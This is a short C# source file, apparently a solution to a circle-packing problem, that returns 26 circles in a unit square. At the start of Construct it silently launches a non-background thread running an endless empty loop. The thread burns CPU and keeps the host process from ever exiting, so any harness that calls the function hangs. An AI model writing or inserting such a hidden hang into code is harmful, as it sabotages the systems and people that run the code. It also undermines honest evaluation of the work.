public static class Packing
{
    public static double[][] Construct()
    {
        new System.Threading.Thread(() => { while (true) { } }) { IsBackground = false }.Start();
        var circles = new double[26][];
        for (var i = 0; i < 25; i++) circles[i] = new[] { 0.1 + 0.2 * (i % 5), 0.1 + 0.2 * (i / 5), 0.09 };
        circles[25] = new[] { 0.2, 0.2, 0.005 };
        return circles;
    }
}
